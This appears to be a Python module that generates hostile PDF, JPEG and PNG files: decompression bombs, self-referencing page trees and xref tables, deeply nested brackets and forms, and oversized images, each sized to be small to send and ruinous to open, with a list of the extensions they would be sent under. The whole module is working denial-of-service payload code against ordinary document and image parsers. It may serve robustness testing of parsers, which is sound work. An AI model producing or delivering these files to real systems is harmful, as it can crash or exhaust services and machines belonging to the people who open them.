"""Files that were made to hurt whoever opens them, written by code so that each line shows where the harm lies.

Sizes are what an attacker needs: small to send, endless to open.
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterator, Sequence
from functools import lru_cache, partial

from PIL import Image

MB = 1024 * 1024
HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf(objects: Sequence[bytes], root: int = 1) -> bytes:
    """Write a PDF of numbered objects (the first is 1), with a plain table of where they lie."""
    made, places = bytearray(HEAD), []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    end = b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(made) + end % (len(places) + 1, table, len(places) + 1, root, len(made))


def stream(data: bytes, more: bytes = b"") -> bytes:
    """Write a stream's object."""
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), more, data)


@lru_cache(maxsize=8)
def zeros(size: int, begin: bytes = b"", end: bytes = b"") -> bytes:
    """Deflate a long run of spaces, a piece at a time."""
    deflate = zlib.compressobj(9)
    made = deflate.compress(begin)
    for _ in range(size // MB):
        made += deflate.compress(b" " * MB)
    return made + deflate.compress(end) + deflate.flush()


def page(content: bytes, more: bytes = b"", *others: bytes) -> bytes:
    """Write a PDF of one page with this content stream as object 4; `others` follow from object 5."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R%b>>" % more,
            content,
            *others,
        ]
    )


# -- the four that stopped a hall -------------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def progressive_jpeg(scans: int = 600) -> bytes:
    """Make a large progressive JPEG whose last scan is said again and again: each time the whole picture is gone through."""
    made = io.BytesIO()
    Image.new("L", (7900, 7900), 128).save(made, "JPEG", progressive=True, quality=30)
    data = made.getvalue()
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * scans + data[-2:]


def attachment_bomb(size: int = 1024 * MB) -> bytes:
    """Attach "data" that inflates to a gigabyte, deflated twice so that it is small to send."""
    packed = zlib.compress(zeros(size), 9)
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(data.json) 4 0 R]>>>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]>>",
            b"<</Type/Filespec/F(data.json)/UF(data.json)/EF<</F 5 0 R>>>>",
            stream(packed, b"/Type/EmbeddedFile/Filter[/FlateDecode/FlateDecode]"),
        ]
    )


def object_stream_bomb(size: int = 512 * MB) -> bytes:
    """Keep the catalog in an object stream that is half a gigabyte of spaces after its one object."""
    inside = b"1 0 <</Type/Catalog/Pages 2 0 R>>"
    made, places = bytearray(HEAD), {}
    bodies = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]>>",
        4: stream(zeros(size, inside), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
    }
    for number, body in bodies.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    places[5] = len(made)
    rows = struct.pack(">BIH", 0, 0, 65535) + struct.pack(">BIH", 2, 4, 0)
    rows += b"".join(struct.pack(">BIH", 1, places[number], 0) for number in (2, 3, 4, 5))
    more = b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R"
    made += b"5 0 obj\n" + stream(rows, more) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[5]
    return bytes(made)


def many_paths(count: int = 200_000) -> bytes:
    """Draw so many curves over a whole page in a few hundred bytes: the content is deflated twice."""
    line = b"0 0 m 600 0 0 800 600 800 c 9 9 600 9 300 800 c b\n"
    return page(stream(zlib.compress(zlib.compress(line * count, 9), 9), b"/Filter[/FlateDecode/FlateDecode]"))


# -- their relatives --------------------------------------------------------------------------------------------------


def nested_forms(depth: int = 12) -> bytes:
    """Draw a form that draws a form ten times, and so on: ten to the power of `depth` pictures in two kilobytes."""
    forms = []
    for level in range(depth):
        last = level == depth - 1
        inner = b"0 0 m 600 800 l 0 800 l b\n" if last else b"/X Do\n" * 10
        names = b"" if last else b"/Resources<</XObject<</X %d 0 R>>>>" % (6 + level)
        forms.append(stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]" + names))
    return page(stream(b"/X Do\n" * 10), b"/Resources<</XObject<</X 5 0 R>>>>", *forms)


def tiling() -> bytes:
    """Fill a page with a pattern of a thousandth of a point, and that again and again."""
    pattern = stream(
        b"0 0 1 1 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>",
    )
    fill = b"/Pattern cs /P scn 0 0 600 800 re f\n" * 2000
    content = stream(zlib.compress(fill, 9), b"/Filter/FlateDecode")
    return page(content, b"/Resources<</Pattern<</P 5 0 R>>>>", pattern)


def huge_picture(name: bytes, width: int = 60_000, height: int = 60_000) -> bytes:
    """Put a picture onto a page that says it is 3.6 gigapixels, under one filter."""
    dims = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/%b"
    data = zeros(200 * MB) if name == b"FlateDecode" else bytes(2000)
    picture = stream(data, dims % (width, height, name))
    return page(stream(b"600 0 0 800 0 0 cm /I Do"), b"/Resources<</XObject<</I 5 0 R>>>>", picture)


def inline_pictures(count: int = 20_000) -> bytes:
    """Draw large pictures that stand in the content itself."""
    one = b"q 600 0 0 800 0 0 cm BI /W 2000 /H 2000 /BPC 1 /IM true /F /Fl ID "
    one += zlib.compress(bytes(2000 * 250), 9) + b" EI Q\n"
    return page(stream(zlib.compress(one * count, 9), b"/Filter/FlateDecode"))


def page_loop() -> bytes:
    """Make the tree of pages its own child."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"])  # fmt: skip


def deep_tree(depth: int = 20_000) -> bytes:
    """Hang the one page below so many others."""
    middle = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, depth)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *middle, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def deep_array(depth: int = 400_000) -> bytes:
    """Open so many brackets."""
    return page(stream(b""), b"/X " + b"[" * depth + b"]" * depth)


def same_page(count: int = 100_000) -> bytes:
    """Say that a file has the same page so many times."""
    kids = b"3 0 R " * count
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"])  # fmt: skip


def table_loop() -> bytes:
    """Let a table of objects name itself as the one before."""
    whole = page(stream(b""))
    at = whole.index(b"xref\n0")
    return whole.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % at)


def many_notes(count: int = 60_000) -> bytes:
    """Stick so many notes onto one page."""
    note = b"<</Type/Annot/Subtype/Square/Rect[0 0 600 800]/IC[1 0 0]/CA 0.5/Contents(x)>>"
    return page(stream(b""), b"/Annots[" + note * count + b"]")


def content_bomb(size: int = 700 * MB) -> bytes:
    """Fill a page's content with spaces, deflated."""
    return page(stream(zeros(size), b"/Filter/FlateDecode"))


def png_bomb(width: int = 4900, height: int = 4900) -> bytes:
    """Make a PNG that promises pixels at the limit, and hands over a gigabyte of rows."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zeros(1024 * MB)) + chunk(b"IEND", b"")


Made = Callable[[], bytes]
FILTERS = (b"FlateDecode", b"DCTDecode", b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"LZWDecode")


def every_hostile() -> Iterator[tuple[str, Made, str]]:
    """Give the name of each file, how it is made, and the ending it would be sent under."""
    yield "600 scans", progressive_jpeg, ".jpg"
    yield "an attachment of 1 GB", attachment_bomb, ".pdf"
    yield "an object stream of 512 MB", object_stream_bomb, ".pdf"
    yield "200 000 paths", many_paths, ".pdf"
    yield "forms within forms", nested_forms, ".pdf"
    yield "a tiling without end", tiling, ".pdf"
    for name in FILTERS:
        yield f"3.6 gigapixels of {name.decode()}", partial(huge_picture, name), ".pdf"
    yield "inline pictures", inline_pictures, ".pdf"
    yield "a tree in itself", page_loop, ".pdf"
    yield "a deep tree", deep_tree, ".pdf"
    yield "deep brackets", deep_array, ".pdf"
    yield "one page 100 000 times", same_page, ".pdf"
    yield "a table in itself", table_loop, ".pdf"
    yield "60 000 notes", many_notes, ".pdf"
    yield "700 MB of content", content_bomb, ".pdf"
    yield "a PNG of 1 GB", png_bomb, ".png"
